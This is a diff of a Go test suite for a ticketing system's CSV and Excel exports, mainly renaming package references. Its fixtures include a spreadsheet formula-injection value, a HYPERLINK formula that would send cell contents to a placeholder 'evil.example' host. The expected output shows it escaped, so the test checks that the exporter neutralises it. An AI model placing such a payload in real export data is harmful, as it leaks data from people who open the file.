@@ -156,7 +156,7 @@ func mustExportData(tb testing.TB) *exportData {
 
 // expectedExports are the tables the fixture's exports must hold.
 var expectedExports = map[string][][]string{
-	mysql.ExportOrders: {
+	admit.ExportOrders: {
 		{"Order", "Status", "Buyer name", "Buyer email", "Tickets", "Items", "Total", "Discount", "Discount code", "Refunded", "Currency",
 			"Payment method", "Payment reference", "Placed at (Europe/Berlin)", "Paid at (Europe/Berlin)"},
 		{"ALPHA001", "paid", "Ada Lovelace", "ada@example.com", "2", "2 × GA", "100.00", "0.00", "", "0.00", "EUR", "stripe", "pi_123",
@@ -166,7 +166,7 @@ var expectedExports = map[string][][]string{
 		{"CHARLIE3", "refunded", "Zoë Ünicode", "zoe@example.com", "2", "2 × GA", "90.00", "10.00", "EARLY", "90.00", "EUR", "stripe", "pi_456",
 			"2026-03-03 08:05:09", "2026-03-03 08:06:00"},
 	},
-	mysql.ExportAttendees: {
+	admit.ExportAttendees: {
 		{"Ticket code", "Ticket type", "Attendee name", "Attendee email", "Ticket status", "Order", "Order status", "Buyer name", "Buyer email",
 			"Checked in at (Europe/Berlin)", "T-shirt size", "Dietary needs"},
 		{"CODEAAAA0001", "GA", "Ada Lovelace", "ada@example.com", "valid", "ALPHA001", "paid", "Ada Lovelace", "ada@example.com",
@@ -179,7 +179,7 @@ var expectedExports = map[string][][]string{
 			"", "", "'+1 guest"},
 		{"CODECCCC0005", "GA", "'\tTabbed", "", "void", "CHARLIE3", "refunded", "Zoë Ünicode", "zoe@example.com", "", "", ""},
 	},
-	mysql.ExportCheckIns: {
+	admit.ExportCheckIns: {
 		{"Checked in at (Europe/Berlin)", "List", "Ticket code", "Ticket type", "Attendee name", "Order", "Checked in by", "Undone at (Europe/Berlin)"},
 		{"2026-04-10 10:00:00", "Main door", "CODEAAAA0001", "GA", "Ada Lovelace", "ALPHA001", "Olga Owner", ""},
 		{"2026-04-10 10:05:00", "Main door", "CODEAAAA0002", "GA", `'=HYPERLINK("https://evil.example/?x="&B2,"Click me")`, "ALPHA001", "Olga Owner",
@@ -191,16 +191,16 @@ var expectedExports = map[string][][]string{
 func discardLogger() *slog.Logger { return slog.New(slog.NewTextHandler(io.Discard, nil)) }
 
 // mustRequestExport records an export request as the console does.
-func mustRequestExport(tb testing.TB, d *exportData, eventID int64, kind, format string) *mysql.Export {
+func mustRequestExport(tb testing.TB, d *exportData, eventID int64, kind, format string) *admit.Export {
 	tb.Helper()
-	ex := &mysql.Export{OrganizationID: d.orgID, EventID: eventID, Kind: kind, Format: format, RequestedBy: d.ownerID}
+	ex := &admit.Export{OrganizationID: d.orgID, EventID: eventID, Kind: kind, Format: format, RequestedBy: d.ownerID}
 	if _, err := d.db.CreateExport(context.Background(), ex); err != nil {
 		tb.Fatal(err)
 	}
 	return ex
 }
 
-func mustFindExport(tb testing.TB, d *exportData, id int64) *mysql.Export {
+func mustFindExport(tb testing.TB, d *exportData, id int64) *admit.Export {
 	tb.Helper()
 	ex, err := d.db.FindExport(context.Background(), d.orgID, id)
 	if err != nil {
@@ -213,7 +213,7 @@ func mustFindExport(tb testing.TB, d *exportData, id int64) *mysql.Export {
 // shows them.
 func readTable(tb testing.TB, format string, data []byte) [][]string {
 	tb.Helper()
-	if format == mysql.ExportCSV {
+	if format == admit.ExportCSV {
 		body, ok := bytes.CutPrefix(data, []byte("\uFEFF"))
 		if !ok {
 			tb.Error("the CSV file does not start with a byte order mark")
@@ -257,8 +257,8 @@ func TestExportContents(t *testing.T) {
 	d := mustExportData(t)
 	dir := t.TempDir()
 	exporter := &jobs.Exporter{Store: d.db, Storage: &jobs.LocalStorage{Dir: dir}, Logger: discardLogger(), TempDir: t.TempDir(), BatchSize: 2}
-	for _, kind := range []string{mysql.ExportOrders, mysql.ExportAttendees, mysql.ExportCheckIns} {
-		for _, format := range []string{mysql.ExportCSV, mysql.ExportXLSX} {
+	for _, kind := range []string{admit.ExportOrders, admit.ExportAttendees, admit.ExportCheckIns} {
+		for _, format := range []string{admit.ExportCSV, admit.ExportXLSX} {
 			t.Run(kind+"."+format, func(t *testing.T) {
 				ex := mustRequestExport(t, d, d.eventID, kind, format)
 				if _, err := exporter.Build(context.Background(), d.orgID, ex.ID); err != nil {
@@ -266,7 +266,7 @@ func TestExportContents(t *testing.T) {
 				}
 				ex = mustFindExport(t, d, ex.ID)
 				want := expectedExports[kind]
-				if ex.Status != mysql.ExportDone || ex.Rows != len(want)-1 {
+				if ex.Status != admit.ExportDone || ex.Rows != len(want)-1 {
 					t.Fatalf("export is %s with %d rows, want done with %d", ex.Status, ex.Rows, len(want)-1)
 				}
 				data, err := os.ReadFile(filepath.Join(dir, filepath.FromSlash(ex.FileKey)))
@@ -282,10 +282,10 @@ func TestExportContents(t *testing.T) {
 				if diff := cmp.Diff(want, readTable(t, format, data)); diff != "" {
 					t.Errorf("contents (-want +got):\n%s", diff)
 				}
-				if format == mysql.ExportXLSX && kind == mysql.ExportOrders {
+				if format == admit.ExportXLSX && kind == admit.ExportOrders {
 					mustTypedCells(t, data)
 				}
-				if format == mysql.ExportCSV {
+				if format == admit.ExportCSV {
 					golden := filepath.Join("testdata", "export_"+kind+".csv")
 					if *updateGolden {
 						if err := os.WriteFile(golden, data, 0o644); err != nil {
@@ -373,8 +373,8 @@ func TestExportIdempotent(t *testing.T) {
 	exporter := &jobs.Exporter{Store: d.db, Storage: storage, Logger: discardLogger()}
 	outbox := &jobs.Outbox{Store: d.db, Exports: exporter, Logger: discardLogger()}
 
-	ex := mustRequestExport(t, d, d.eventID, mysql.ExportAttendees, mysql.ExportCSV)
-	again := &mysql.Export{OrganizationID: d.orgID, EventID: d.eventID, Kind: mysql.ExportAttendees, Format: mysql.ExportCSV}
+	ex := mustRequestExport(t, d, d.eventID, admit.ExportAttendees, admit.ExportCSV)
+	again := &admit.Export{OrganizationID: d.orgID, EventID: d.eventID, Kind: admit.ExportAttendees, Format: admit.ExportCSV}
 	if existing, err := d.db.CreateExport(ctx, again); err != nil || !existing || again.ID != ex.ID {
 		t.Fatalf("second request while queued: existing %v, id %d (first %d), err %v", existing, again.ID, ex.ID, err)
 	}
@@ -417,7 +417,7 @@ func TestExportIdempotent(t *testing.T) {
 	if !after.ModTime().Equal(before.ModTime()) {
 		t.Error("a second build rewrote the file")
 	}
-	if got := mustFindExport(t, d, ex.ID); got.Attempt != 1 || got.Status != mysql.ExportDone {
+	if got := mustFindExport(t, d, ex.ID); got.Attempt != 1 || got.Status != admit.ExportDone {
 		t.Errorf("after duplicates: %s, attempt %d; want done, attempt 1", got.Status, got.Attempt)
 	}
 	var files int
@@ -440,25 +440,25 @@ func TestExportIdempotent(t *testing.T) {
 	}
 
 	// A failure is recorded, and the retry completes it.
-	failed := mustRequestExport(t, d, d.eventID, mysql.ExportOrders, mysql.ExportXLSX)
+	failed := mustRequestExport(t, d, d.eventID, admit.ExportOrders, admit.ExportXLSX)
 	broken := &jobs.Exporter{Store: d.db, Storage: failingStorage{storage}, Logger: discardLogger()}
 	if _, err := broken.Build(ctx, d.orgID, failed.ID); err == nil || !strings.Contains(err.Error(), "disk full") {
 		t.Fatalf("build with a full disk: %v", err)
 	}
-	if got := mustFindExport(t, d, failed.ID); got.Status != mysql.ExportFailed || !strings.Contains(got.Error, "disk full") {
+	if got := mustFindExport(t, d, failed.ID); got.Status != admit.ExportFailed || !strings.Contains(got.Error, "disk full") {
 		t.Fatalf("after a failure: %s %q", got.Status, got.Error)
 	}
 	if _, err := exporter.Build(ctx, d.orgID, failed.ID); err != nil {
 		t.Fatal(err)
 	}
-	if got := mustFindExport(t, d, failed.ID); got.Status != mysql.ExportDone || got.Attempt != 2 || got.Rows != 3 || got.Error != "" {
+	if got := mustFindExport(t, d, failed.ID); got.Status != admit.ExportDone || got.Attempt != 2 || got.Rows != 3 || got.Error != "" {
 		t.Errorf("after the retry: %s, attempt %d, %d rows, error %q", got.Status, got.Attempt, got.Rows, got.Error)
 	}
 
 	// A running export with a live heartbeat is left to its builder; once
 	// the heartbeat stops, a new attempt takes over and the old one can no
 	// longer write.
-	running := mustRequestExport(t, d, d.eventID, mysql.ExportCheckIns, mysql.ExportCSV)
+	running := mustRequestExport(t, d, d.eventID, admit.ExportCheckIns, admit.ExportCSV)
 	stale, claimed, err := d.db.ClaimExport(ctx, d.orgID, running.ID, time.Minute)
 	if err != nil || !claimed {
 		t.Fatalf("first claim: %v %v", claimed, err)
@@ -473,10 +473,10 @@ func TestExportIdempotent(t *testing.T) {
 	if err := d.db.ExportProgress(ctx, d.orgID, running.ID, stale.Attempt, 1); admit.ErrorCode(err) != admit.ECONFLICT {
 		t.Errorf("progress of the superseded attempt: %v, want a conflict", err)
 	}
-	if done, err := d.db.CompleteExport(ctx, d.orgID, running.ID, stale.Attempt, mysql.ExportFile{Key: "x"}, time.Hour); err != nil || done {
+	if done, err := d.db.CompleteExport(ctx, d.orgID, running.ID, stale.Attempt, admit.ExportFile{Key: "x"}, time.Hour); err != nil || done {
 		t.Errorf("completion by the superseded attempt: %v, %v", done, err)
 	}
-	if got := mustFindExport(t, d, running.ID); got.Status != mysql.ExportDone || got.Rows != 3 || got.FileKey == "x" {
+	if got := mustFindExport(t, d, running.ID); got.Status != admit.ExportDone || got.Rows != 3 || got.FileKey == "x" {
 		t.Errorf("taken-over export: %s, %d rows, key %q", got.Status, got.Rows, got.FileKey)
 	}
 }
@@ -574,9 +574,9 @@ func TestExportLarge(t *testing.T) {
 	dir := t.TempDir()
 	exporter := &jobs.Exporter{Store: db, Storage: &jobs.LocalStorage{Dir: dir}, Logger: discardLogger(), TempDir: t.TempDir()}
 	d := &exportData{db: db, orgID: orgID, ownerID: ownerID}
-	for _, format := range []string{mysql.ExportCSV, mysql.ExportXLSX} {
+	for _, format := range []string{admit.ExportCSV, admit.ExportXLSX} {
 		t.Run(format, func(t *testing.T) {
-			ex := mustRequestExport(t, d, eventID, mysql.ExportOrders, format)
+			ex := mustRequestExport(t, d, eventID, admit.ExportOrders, format)
 			runtime.GC()
 			var base runtime.MemStats
 			runtime.ReadMemStats(&base)
@@ -619,7 +619,7 @@ func TestExportLarge(t *testing.T) {
 			t.Logf("%s export of %d orders: %v, %.1f MB file; peak heap in use %.1f MB above the %.1f MB before (process memory from the runtime %.1f MB; max RSS %.1f MB, was %.1f MB)",
 				format, ex.Rows, took.Round(time.Millisecond), mb(ex.Size), mb(heap), mb(int64(base.HeapInuse)), mb(int64(max.Sys)),
 				float64(rusageAfter.Maxrss)/1024, float64(rusageBefore.Maxrss)/1024)
-			if ex.Status != mysql.ExportDone || ex.Rows != orders {
+			if ex.Status != admit.ExportDone || ex.Rows != orders {
 				t.Fatalf("export %s with %d rows, want done with %d", ex.Status, ex.Rows, orders)
 			}
 			// Rows stream through: the heap holds one batch (and, for Excel,
@@ -627,7 +627,7 @@ func TestExportLarge(t *testing.T) {
 			// and may double before the garbage collector catches up), not
 			// the whole export, whatever its size.
 			limit := int64(32 << 20)
-			if format == mysql.ExportXLSX {
+			if format == admit.ExportXLSX {
 				limit = 96 << 20
 			}
 			if heap > limit {
@@ -665,7 +665,7 @@ func mustReadLargeExport(tb testing.TB, format, path string) [][]string {
 	if err != nil {
 		tb.Fatal(err)
 	}
-	if format == mysql.ExportCSV {
+	if format == admit.ExportCSV {
 		return readTable(tb, format, data)
 	}
 	// Raw values: formatting 1.5 million cells would take most of a minute.
